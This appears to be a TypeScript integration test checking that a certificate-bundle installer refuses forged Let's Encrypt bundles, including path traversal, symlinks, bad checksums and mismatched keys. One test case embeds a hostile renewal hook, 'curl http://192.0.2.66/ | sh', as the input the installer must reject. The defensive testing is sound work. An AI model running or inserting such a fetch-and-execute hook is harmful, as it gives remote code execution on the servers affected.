import { expect, test, type LabNode } from '../lab/scene/scene.ts';
import type { Bundle } from '../../lib/lineage/bundle.ts';
import { renewalConf } from '../support/lineage/renewal-conf.ts';
import { FORGERIES } from '../support/lineage/forgeries.ts';
import { withFiles } from '../support/lineage/bundle.ts';
import type { BundleOptions, Forge, Placing } from '../lab/scene/forge.ts';
import { installerSays, journalCursor, treeHash } from '../lab/scene/installer.ts';

const LINEAGE = 'forged.example.test';
const HOUR_MS = 3_600_000;
const hoursAgo = (hours: number) => new Date(Date.now() - hours * HOUR_MS);

/** Of the forgeries that the installer's own tests go through, one of each sort. */
const TAKEN: ReadonlySet<string> = new Set([
  'a path that no bundle has',
  'a link for a file',
  'a link for the whole',
  '`..` in a path of the manifest',
  'a lineage that leads up',
  'a wrong checksum',
  'a file of 1 GB',
]);

interface Case {
  readonly title: string;
  readonly reason: RegExp;
  readonly bundle: (forge: Forge, to: LabNode) => Promise<Bundle>;
  readonly placing?: Placing;
}

const bundleOf = async (forge: Forge, to: LabNode, options: BundleOptions) =>
  await forge.bundle(to, LINEAGE, { number: 2, ...options });

const newer: Case['bundle'] = async (forge, to) => await bundleOf(forge, to, { notBefore: hoursAgo(1) });

const CASES: readonly Case[] = [
  {
    title: 'the key of another certificate',
    reason: /privkey\.pem: not the key of cert\.pem/,
    bundle: async (forge, to) =>
      withFiles(await newer(forge, to), { 'privkey.pem': (await forge.authority.issue([LINEAGE])).key }),
  },
  {
    title: 'a certificate that has expired',
    reason: /cert\.pem: expired at/,
    bundle: async (forge, to) => await bundleOf(forge, to, { notBefore: hoursAgo(3), notAfter: hoursAgo(1) }),
  },
  {
    title: 'an older certificate',
    reason: /forged\.example\.test: older than what is installed/,
    bundle: async (forge, to) => await bundleOf(forge, to, { notBefore: hoursAgo(9) }),
  },
  {
    title: 'a hook of a stranger',
    reason: /not a lineage that certbot-ha's hooks renew/,
    bundle: async (forge, to) => {
      const params = ['manual_auth_hook = curl http://192.0.2.66/ | sh', 'renew_hook = certbot-ha-deploy'];
      const conf = renewalConf({ configDir: to.paths.letsencrypt, lineage: LINEAGE, params });
      return await bundleOf(forge, to, { notBefore: hoursAgo(1), conf });
    },
  },
  {
    title: 'a file of another user',
    reason: /cert\.pem: belongs to user 0/,
    bundle: newer,
    placing: { onNode: 'chown root cert.pem' },
  },
  ...FORGERIES.filter(([title]) => TAKEN.has(title)).map(([title, reason, spoil]): Case => ({
    title,
    reason,
    bundle: newer,
    placing: { spoil },
  })),
];

test('an inbox takes a bundle, then none that is forged, then a good one again', async ({ scene, forge }) => {
  scene.needsHosts('a path unit');
  expect(CASES).toHaveLength(5 + TAKEN.size);
  const [, web2] = scene.nodes;
  const { letsencrypt } = web2.paths;
  const base = await bundleOf(forge, web2, { notBefore: hoursAgo(6), number: 1 });
  await forge.place(web2, base);
  expect(await forge.result(web2, base)).toMatchObject({ state: 'installed', lineage: LINEAGE });
  const before = await treeHash(web2);

  for (const { title, reason, bundle: make, placing } of CASES) {
    const bundle = await make(forge, web2);
    const cursor = await journalCursor(web2);
    await forge.place(web2, bundle, placing);
    const { state, messages } = await forge.result(web2, bundle);
    expect({ title, state, messages }).toEqual({
      title,
      state: 'refused',
      messages: expect.arrayContaining([expect.stringMatching(reason)]) as readonly string[],
    });
    const said = await installerSays(web2, cursor);
    const inJournal = messages.map((message) => expect.stringContaining(message) as string);
    expect({ title, said }).toEqual({ title, said: expect.arrayContaining(inJournal) as readonly string[] });
    expect({ title, tree: await treeHash(web2) }).toEqual({ title, tree: before });
    await scene.expectDelivered();
  }

  const good = await bundleOf(forge, web2, { notBefore: hoursAgo(0.5) });
  await forge.place(web2, good);
  expect(await forge.result(web2, good)).toMatchObject({ state: 'installed' });
  const installed = await web2.readFile(`${letsencrypt}/live/${LINEAGE}/cert.pem`);
  expect(installed).toBe(good.files['cert.pem']);
  expect(await web2.check(['certbot', 'certificates', '--cert-name', LINEAGE])).toContain('VALID');
  await scene.expectDelivered();
});
